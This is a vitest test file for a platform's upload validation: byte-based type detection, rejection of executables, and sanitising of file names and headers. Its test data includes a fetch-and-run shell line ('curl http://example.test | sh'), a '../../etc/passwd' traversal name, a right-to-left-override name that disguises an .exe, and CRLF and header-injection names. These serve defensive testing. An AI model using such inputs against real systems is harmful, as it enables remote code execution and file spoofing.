import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { allowedUploadMimes } from '@atalaya/contract/complaints/document.schemas';
import { pdfWithMetadata, windowsExecutable } from '../test/document-factories.ts';
import { AppError } from './errors.ts';
import { attachmentDisposition, inspectFile, safeFileName } from './file-inspection.ts';

const allowed = allowedUploadMimes;

/** A Compound File Binary container (legacy Office) naming one inner stream. */
function cfbWith(stream: string): Buffer {
  const bytes = Buffer.alloc(2048);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(bytes, 0);
  Buffer.from(`${stream}\u0000`, 'utf16le').copy(bytes, 1024);
  return bytes;
}

async function refusal(promise: Promise<unknown>): Promise<{ code: string; message: string }> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  if (!(error instanceof AppError)) {
    throw new Error('expected an AppError');
  }
  return { code: error.code, message: error.message };
}

const refused = { code: 'UNSUPPORTED_MEDIA_TYPE', message: 'Tipo de archivo no permitido' };

describe('inspectFile', () => {
  it('recognises PDFs and images by their bytes, whatever their name says', async () => {
    const pdf = await pdfWithMetadata();
    expect(await inspectFile(pdf, 'informe.pdf', allowed)).toEqual({ mime: 'application/pdf', extension: 'pdf' });
    expect(await inspectFile(pdf, 'foto.jpg', allowed)).toEqual({ mime: 'application/pdf', extension: 'pdf' });
    const png = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#000' } })
      .png()
      .toBuffer();
    expect(await inspectFile(png, 'captura', allowed)).toEqual({ mime: 'image/png', extension: 'png' });
    const jpeg = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#000' } })
      .jpeg()
      .toBuffer();
    expect(await inspectFile(jpeg, 'foto.JPEG', allowed)).toEqual({ mime: 'image/jpeg', extension: 'jpeg' });
  });

  it('415: a Windows executable, an ELF binary or a shell script, even named .pdf or .txt', async () => {
    expect(await refusal(inspectFile(windowsExecutable(), 'report.pdf', allowed))).toEqual(refused);
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(120)]);
    expect(await refusal(inspectFile(elf, 'report.pdf', allowed))).toEqual(refused);
    const script = Buffer.from('#!/bin/sh\ncurl http://example.test | sh\n');
    expect(await refusal(inspectFile(script, 'report.pdf', allowed))).toEqual(refused);
    expect(await refusal(inspectFile(script, 'notas.txt', allowed))).toEqual(refused);
  });

  it('accepts text only as a .txt of valid UTF-8 without NUL bytes', async () => {
    const text = Buffer.from('Contratos adjudicados en 2025: señal de alarma.\n', 'utf8');
    expect(await inspectFile(text, 'notas.txt', allowed)).toEqual({ mime: 'text/plain', extension: 'txt' });
    expect(await refusal(inspectFile(text, 'notas.md', allowed))).toEqual(refused);
    expect(await refusal(inspectFile(Buffer.from('texto\u0000oculto'), 'notas.txt', allowed))).toEqual(refused);
    expect(await refusal(inspectFile(Buffer.from([0x73, 0x65, 0xf1, 0x61, 0x6c]), 'latin1.txt', allowed))).toEqual(
      refused,
    );
  });

  it('maps legacy Office containers by extension and inner stream; any other CFB (an .msi) is refused', async () => {
    expect(await inspectFile(cfbWith('WordDocument'), 'acta.doc', allowed)).toEqual({
      mime: 'application/msword',
      extension: 'doc',
    });
    expect(await inspectFile(cfbWith('Workbook'), 'cuentas.xls', allowed)).toEqual({
      mime: 'application/vnd.ms-excel',
      extension: 'xls',
    });
    expect(await refusal(inspectFile(cfbWith('Workbook'), 'acta.doc', allowed))).toEqual(refused);
    expect(await refusal(inspectFile(cfbWith('WordDocument'), 'setup.msi', allowed))).toEqual(refused);
  });

  it('415 for a real type the tenant does not allow; 400 for an empty file', async () => {
    const pdf = await pdfWithMetadata();
    expect(await refusal(inspectFile(pdf, 'informe.pdf', ['image/jpeg']))).toEqual(refused);
    expect(await refusal(inspectFile(Buffer.alloc(0), 'vacio.txt', allowed))).toEqual({
      code: 'VALIDATION_FAILED',
      message: 'El archivo está vacío',
    });
  });
});

describe('safeFileName', () => {
  it('drops folders, control and bidi characters, and makes the extension match the content', () => {
    expect(safeFileName('C:\\fakepath\\Informe año.pdf', 'pdf')).toBe('Informe año.pdf');
    expect(safeFileName('../../etc/passwd', 'txt')).toBe('passwd.txt');
    expect(safeFileName('foto\u202Egpj.exe', 'jpg')).toBe('fotogpj.exe.jpg');
    expect(safeFileName('a\r\nb.txt', 'txt')).toBe('ab.txt');
    expect(safeFileName('...', 'pdf')).toBe('documento.pdf');
    const long = safeFileName(`${'x'.repeat(300)}.pdf`, 'pdf');
    expect(long.length).toBe(200);
    expect(long.endsWith('.pdf')).toBe(true);
  });
});

describe('attachmentDisposition', () => {
  it('sends an ASCII fallback and the exact UTF-8 name (RFC 5987), with nothing that breaks the header', () => {
    expect(attachmentDisposition('Informe año.pdf')).toBe(
      `attachment; filename="Informe a_o.pdf"; filename*=UTF-8''Informe%20a%C3%B1o.pdf`,
    );
    expect(attachmentDisposition('a"b\\c;d.txt')).toBe(
      `attachment; filename="a_b_c_d.txt"; filename*=UTF-8''a%22b%5Cc%3Bd.txt`,
    );
  });
});
